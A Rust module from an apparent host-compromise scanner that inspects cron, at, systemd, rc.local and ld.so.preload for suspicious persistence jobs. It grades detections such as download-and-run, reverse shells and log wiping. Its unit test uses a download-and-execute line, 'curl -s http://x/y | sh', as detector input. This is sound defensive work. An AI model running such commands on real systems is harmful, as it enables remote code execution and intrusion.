//! Persistence: everything that starts code again by itself — cron (system and user
//! crontabs, the cron.* directories, anacron), at jobs, systemd units, timers and
//! generators, `/etc/rc.local` — and `/etc/ld.so.preload`, which injects a library
//! into every program. A job is judged by the command it runs, with the shared
//! classifier.

mod at;
mod cron;
mod preload;
mod rclocal;
mod systemd;

use crate::Context;
use breachkit_finding::{Rule, Severity, escape_bytes};
use breachkit_host::Line;
use breachkit_scan::shellcmd::{self, Sign, SignKind};

pub struct Persistence;

impl crate::Check for Persistence {
    fn name(&self) -> &'static str {
        "persistence"
    }

    fn about(&self) -> &'static str {
        "cron, at, systemd units/timers/generators, rc.local and ld.so.preload: jobs that fetch, decode or run from temp or hidden paths"
    }

    fn run(&self, ctx: &mut Context) {
        cron::check(ctx);
        at::check(ctx);
        systemd::check(ctx);
        rclocal::check(ctx);
        preload::check(ctx);
    }
}

/// The most of one job file that is read (a larger file is read up to this, with a
/// warning). Its lines are judged whole, however long: padding a line with 70,000
/// blanks must not push the command out of sight.
const MAX_JOB_FILE: u64 = 8 << 20;
/// A line longer than this is a warning naming the file and line: no honest job
/// file has one, and tools that cut lines (ours did, at this length) miss what
/// follows the padding.
const LONG_LINE: usize = 64 << 10;
/// A command longer than this is judged in pieces of this size, each overlapping
/// the next by [`OVERLAP`] bytes so that a command across a boundary is seen whole.
const PIECE: usize = 1 << 20;
const OVERLAP: usize = 64 << 10;
/// The longest command shown whole in evidence; a longer one is shown by what matched.
const SHOWN: usize = 300;

/// The lines of a job file, each whole (never cut). A line longer than
/// [`LONG_LINE`] is reported as a warning naming the file and line.
fn job_lines<'a>(ctx: &mut Context, path: &str, bytes: &'a [u8]) -> Vec<Line<'a>> {
    let all: Vec<Line<'a>> = breachkit_host::lines(bytes, usize::MAX).collect();
    for line in all.iter().filter(|l| l.bytes.len() > LONG_LINE) {
        ctx.warn_at(
            path,
            format!(
                "line {} is {} bytes long (padding that hides a command from a reader?); judged whole",
                line.number,
                line.bytes.len()
            ),
        );
    }
    all
}

/// The signs in `command`; a long one is classified in overlapping pieces.
fn signs_of(command: &str) -> Vec<Sign> {
    if command.len() <= PIECE {
        return shellcmd::classify(command);
    }
    let mut signs: Vec<Sign> = Vec::new();
    let mut start = 0;
    while start < command.len() {
        let end = char_floor(command, start.saturating_add(PIECE));
        let piece = command.get(start..end).unwrap_or_default();
        for sign in shellcmd::classify(piece) {
            if !signs.iter().any(|s| s.kind == sign.kind) {
                signs.push(sign);
            }
        }
        if end >= command.len() {
            break;
        }
        let next = char_floor(command, end.saturating_sub(OVERLAP));
        // Always move on, even when a boundary search went back to `start`.
        start = if next > start { next } else { end };
    }
    if signs.iter().any(|s| s.kind == SignKind::DownloadExec) {
        signs.retain(|s| s.kind != SignKind::Fetch);
    }
    signs.sort_by_key(|s| s.kind);
    signs
}

/// The largest char boundary of `s` at or below `at`.
fn char_floor(s: &str, at: usize) -> usize {
    let mut at = at.min(s.len());
    while at > 0 && !s.is_char_boundary(at) {
        at -= 1;
    }
    at
}

/// How bad a sign is in something that runs unattended, as root or a service.
/// A bare download is not reported: `curl https://site/wp-cron.php` is how
/// WordPress cron is often run.
fn job_severity(kind: SignKind) -> Option<Severity> {
    use SignKind::*;
    Some(match kind {
        DownloadExec | DecodeExec | ReverseShell | Miner | PrivilegedAccount => Severity::Critical,
        TempExec | HistoryWipe | LogWipe | SshKeyAdd | FirewallOff => Severity::High,
        HiddenExec | AccountAdd | Immutable | CrontabInstall => Severity::Medium,
        Fetch => return None,
    })
}

/// Reports `command` under `rule` when it shows a sign; the severity is that of the
/// strongest sign, the evidence lists them all. Returns whether it reported.
fn judge_command(
    ctx: &mut Context,
    rule: &Rule,
    path: &str,
    line: Option<u64>,
    command: &str,
    note: Option<&str>,
) -> bool {
    let signs: Vec<_> = signs_of(command)
        .into_iter()
        .filter_map(|s| job_severity(s.kind).map(|sev| (sev, s)))
        .collect();
    let Some(worst) = signs.iter().map(|(sev, _)| *sev).max() else {
        return false;
    };
    let what: Vec<&str> = signs.iter().map(|(_, s)| s.kind.describe()).collect();
    let command = command.trim();
    let shown = if command.len() <= SHOWN {
        escape_bytes(command.as_bytes())
    } else {
        // The padding would fill the evidence: show what matched instead.
        let matched: Vec<String> = signs
            .iter()
            .map(|(_, s)| escape_bytes(s.matched.as_bytes()))
            .collect();
        format!(
            "({} bytes, matched:) …{}…",
            command.len(),
            matched.join("…")
        )
    };
    let mut f = rule
        .finding()
        .severity(worst)
        .path(path)
        .evidence(format!("[{}] {shown}", what.join("; ")));
    if let Some(line) = line {
        f = f.line(line);
    }
    if let Some(note) = note {
        f = f.note(note);
    }
    ctx.report(f);
    true
}

/// The files of a job directory, down to `depth`. Directories are left out; symlinks,
/// FIFOs and devices are kept so that reading them says why they were not read.
fn job_files(ctx: &mut Context, dir: &str, depth: usize) -> Vec<breachkit_host::Entry> {
    let mut entries = ctx.walk(dir, depth);
    entries.retain(|e| !e.meta.is_dir());
    entries
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn long_commands_are_judged_in_overlapping_pieces() {
        let tail = "curl -s http://x/y | sh";
        for pad in [PIECE - 10, PIECE + 5, 3 * PIECE - OVERLAP / 2] {
            let cmd = format!("{}{tail}", "- ".repeat(pad / 2));
            let kinds: Vec<_> = signs_of(&cmd).into_iter().map(|s| s.kind).collect();
            assert_eq!(kinds, vec![SignKind::DownloadExec], "pad {pad}");
        }
        assert!(signs_of(&" ".repeat(3 * PIECE)).is_empty());
        assert_eq!(char_floor("aé", 2), 1);
    }
}
